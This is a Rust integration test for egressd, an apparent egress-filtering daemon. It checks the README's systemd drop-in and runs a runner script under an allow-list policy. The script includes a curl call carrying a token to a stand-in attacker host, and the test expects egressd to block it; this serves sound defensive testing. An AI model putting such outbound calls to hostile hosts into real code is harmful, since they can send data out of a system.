//! What README tells people to type works as it stands there.

use lab::{EVIL, Lab, need, until};
use nix::sys::signal::Signal;
use std::{fs, path::Path, process::Command, time::Duration};

const SOON: Duration = Duration::from_secs(10);

/// The first block of README with that language.
fn block(language: &str) -> String {
    let readme = fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("../README.md")).unwrap();
    let (_, rest) = readme.split_once(&format!("```{language}\n")).unwrap();
    rest.split_once("```").unwrap().0.to_owned()
}

/// What systemd has to say of a runner's unit with this drop-in.
fn verify(lab: &Lab, drop_in: &str) -> (bool, String) {
    let units = lab.work_dir().join("units");
    fs::create_dir_all(units.join("runner.service.d")).unwrap();
    fs::write(units.join("runner.service"), "[Unit]\nDescription=A runner\n[Service]\nExecStart=/bin/true\n").unwrap();
    fs::write(units.join("runner.service.d/egressd.conf"), drop_in).unwrap();
    let unpacked = lab::unpacked("systemd");
    let output = Command::new(unpacked.join("usr/bin/systemd-analyze"))
        .env("LD_LIBRARY_PATH", unpacked.join("usr/lib/x86_64-linux-gnu/systemd"))
        .args(["--man=no", "verify"])
        .arg(units.join("runner.service"))
        .output()
        .expect("systemd-analyze: make setup");
    (output.status.success(), String::from_utf8(output.stderr).unwrap())
}

/// The drop-in is what systemd takes, and its command, started and stopped as systemd would, holds a runner.
#[test]
fn the_drop_in_of_a_runner_works() {
    need("curl");
    let lab = Lab::new();
    let drop_in = block("ini").replace("/usr/local/bin/egressd", &lab::binary().display().to_string());
    assert_eq!(verify(&lab, &drop_in), (true, String::new()));
    let spoilt = verify(&lab, &drop_in.replace("KillMode", "KillMod"));
    assert!(spoilt.1.contains("Unknown key"), "it would say so: {spoilt:?}");

    let (_, command) = drop_in.rsplit_once("ExecStart=").unwrap();
    let words: Vec<&str> = command.lines().next().unwrap().split_whitespace().skip(1).collect();
    let ["run", flags @ .., "--", script] = words.as_slice() else {
        panic!("not egressd run … -- SCRIPT: {words:?}")
    };
    assert_eq!(*script, "/opt/runner/run.sh");
    let policy = lab.file("ci.toml", "version = 1\n[allow]\nnames = [\"ok.test\"]\n");
    let (allowed, closed) = (lab.token("allowed"), lab.token("closed"));
    let runner = lab.file(
        "run.sh",
        &format!(
            "#!/bin/sh\nid -un\ncurl -sS -m3 http://ok.test/{allowed}\ncurl -sS -m3 http://{EVIL}/{closed}\nsleep 1000 & echo up\ntrap 'echo told; exit 0' TERM\nwhile :; do sleep 0.1; done\n"
        ),
    );
    let place = |word: &&str| match *word {
        "/etc/egressd/ci.toml" => policy.display().to_string(),
        "runner" => "nobody".to_owned(),
        other => other.to_owned(),
    };
    let before = lab.snapshot();
    let launch = flags.iter().map(place).fold(lab.egressd("run").user(None), lab::Launch::arg);
    let mut running = launch.program(&["sh", runner.to_str().unwrap()]).spawn();
    until(SOON, "the runner works", || running.stdout().contains("up\n"));
    // KillMode=mixed: TERM for the main process alone.
    running.signal(Signal::SIGTERM);
    running.wait(SOON);
    let said = running.stdout();
    assert!(said.contains("nobody") && said.contains("told"), "{said}");
    lab.expect_hits(&allowed, 1);
    lab.expect_silence(EVIL);
    // A cgroup with a process in it would still be there: nothing is left for the KILL that follows.
    assert_eq!(before.diff(&lab.snapshot()), Vec::<String>::new());
}
